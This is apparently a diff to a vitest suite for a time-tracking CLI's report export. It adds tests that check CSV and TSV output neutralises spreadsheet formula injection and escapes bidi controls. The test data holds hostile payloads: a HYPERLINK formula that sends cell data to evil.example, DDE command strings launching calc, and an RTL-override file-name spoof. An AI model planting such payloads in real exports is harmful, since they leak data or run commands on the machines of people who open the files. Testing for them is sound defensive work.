@@ -1,6 +1,7 @@
 // time report against the time sandbox's seeded records (issue 18): totals exact in seconds and amounts,
 // csv lines for invoicing, json with rows and totals, dates refused before any request, the x-api-token
 // scheme, and an experimental endpoint that may be missing.
+import { parse } from 'csv-parse/sync';
 import { afterEach, describe, expect, it } from 'vitest';
 import { runCli, tempConfigDir } from '../helpers/cli.js';
 import { useTimeSandbox } from '../helpers/time-sandbox.js';
@@ -9,7 +10,11 @@ const time = useTimeSandbox();
 afterEach(() => time.sandbox.server.faults.clear());
 
 const WEEK = ['--from', '2026-11-02', '--to', '2026-11-06'];
-const report = (args: string[], env: Record<string, string> = time.tokenEnv(), configDir = tempConfigDir()) => runCli(['time', 'report', ...args], { env, configDir });
+async function report(args: string[], env: Record<string, string> = time.tokenEnv(), configDir = tempConfigDir()) {
+  const started = performance.now();
+  const result = await runCli(['time', 'report', ...args], { env, configDir });
+  return { ...result, ms: performance.now() - started };
+}
 const reportRequests = () => time.sandbox.server.requests.filter((request) => request.path === '/api/v1/reports/detailed');
 
 describe('time report', () => {
@@ -50,6 +55,68 @@ describe('time report', () => {
     ]);
     expect(lines.at(-1)).toBe('total,,,,,,,,,,27:20:45,98445,,2331.17,10');
     expect(result.stdout).toContain('entry,,2026-11-03,Ana Lima,58,Café Zürich — Kassensystem,Support,"Bugfix ""Bon""",09:00:00,09:20:15,00:20:15,1215,110,37.13,');
+  });
+
+  it('-o csv and -o tsv neutralise a formula in a project name for spreadsheets; times and amounts stay numbers', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Café Zürich")';
+    const env = time.tokenEnv();
+    const renamed = await runCli(['time', 'projects', 'update', '58', '--name', formula], { env });
+    expect(renamed.exitCode, renamed.stderr).toBe(0);
+    try {
+      const csv = await report([...WEEK, '-o', 'csv'], env);
+      expect(csv.exitCode, csv.stderr).toBe(0);
+      expect(csv.ms).toBeLessThan(10_000);
+      const rows = parse(csv.stdout, { columns: true }) as Array<Record<string, string>>;
+      const ours = rows.filter((row) => row.project === `'${formula}`);
+      expect(ours.map((row) => [row.line, row.group, row.time_total, row.rate_total])).toEqual([
+        ['entry', '', '02:00:00', '240'],
+        ['entry', '', '00:20:15', '37.13'],
+        ['entry', '', '00:00:01', '0.02'],
+        ['subtotal', `'${formula}`, '02:20:16', '277.15'],
+      ]);
+      expect(csv.stdout).not.toMatch(/(^|,)"?=/m);
+      expect(rows.at(-1)).toMatchObject({ line: 'total', time_total: '27:20:45', seconds: '98445', rate_total: '2331.17' });
+      const tsv = await report([...WEEK, '-o', 'tsv'], env);
+      expect(tsv.exitCode, tsv.stderr).toBe(0);
+      expect(tsv.stdout.split('\n').filter((line) => line.includes('HYPERLINK')).every((line) => line.split('\t')[5] === `'${formula}`)).toBe(true);
+      expect(tsv.stdout).not.toMatch(/(^|\t)=/m);
+    } finally {
+      expect((await runCli(['time', 'projects', 'update', '58', '--name', 'Café Zürich — Kassensystem'], { env })).exitCode).toBe(0);
+    }
+  });
+
+  it('-o csv from a hostile service: text cells starting with + - @ get a quote, a negative amount does not, bidi controls are escaped', async () => {
+    const row = (fields: Record<string, unknown>) => ({
+      user_name: 'Ana Lima', project_id: 58, project_name: 'Support', task_name: null, description: 'fix', date_execution: '2026-11-02',
+      time_start: '09:00:00', time_end: '10:00:00', time_total: '01:00:00', rate_hour: 30, rate_total: '30.00', ...fields,
+    });
+    time.sandbox.server.faults.add({
+      path: '/api/v1/reports/detailed',
+      times: 2,
+      fault: { kind: 'status', status: 200, body: { data: [
+        row({ user_name: '@SUM(1+1)*cmd|\' /C calc\'!A0', description: '-2+3+cmd|\' /C calc\'!A0' }),
+        row({ project_name: '+49 30 1234', description: 'credit \u202egnp.exe', rate_hour: -30, rate_total: '-42.50' }),
+        row({ description: '\t=1+1' }),
+      ] } },
+    });
+    const result = await report([...WEEK, '--group-by', 'none', '-o', 'csv']);
+    expect(result.exitCode, result.stderr).toBe(0);
+    expect(result.ms).toBeLessThan(10_000);
+    const rows = parse(result.stdout, { columns: true }) as Array<Record<string, string>>;
+    expect(rows.map((line) => [line.user, line.project, line.description, line.rate_hour, line.rate_total])).toEqual([
+      ["'@SUM(1+1)*cmd|' /C calc'!A0", 'Support', "'-2+3+cmd|' /C calc'!A0", '30', '30.00'],
+      ['Ana Lima', "'+49 30 1234", 'credit \\u202egnp.exe', '-30', '-42.50'],
+      ['Ana Lima', 'Support', "'\t=1+1", '30', '30.00'],
+      ['', '', '', '', '17.50'],
+    ]);
+    expect(result.stdout).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
+    const json = await report([...WEEK, '--group-by', 'none', '-o', 'json']);
+    expect(json.exitCode, json.stderr).toBe(0);
+    expect(JSON.parse(json.stdout).rows.map((line: Record<string, unknown>) => [line.project, line.description, line.rate_total])).toEqual([
+      ['Support', "-2+3+cmd|' /C calc'!A0", '30.00'],
+      ['+49 30 1234', 'credit \u202egnp.exe', '-42.50'],
+      ['Support', '\t=1+1', '30.00'],
+    ]);
   });
 
   it('a table shows each record, the subtotals and the total; an empty range says so and totals 00:00:00', async () => {
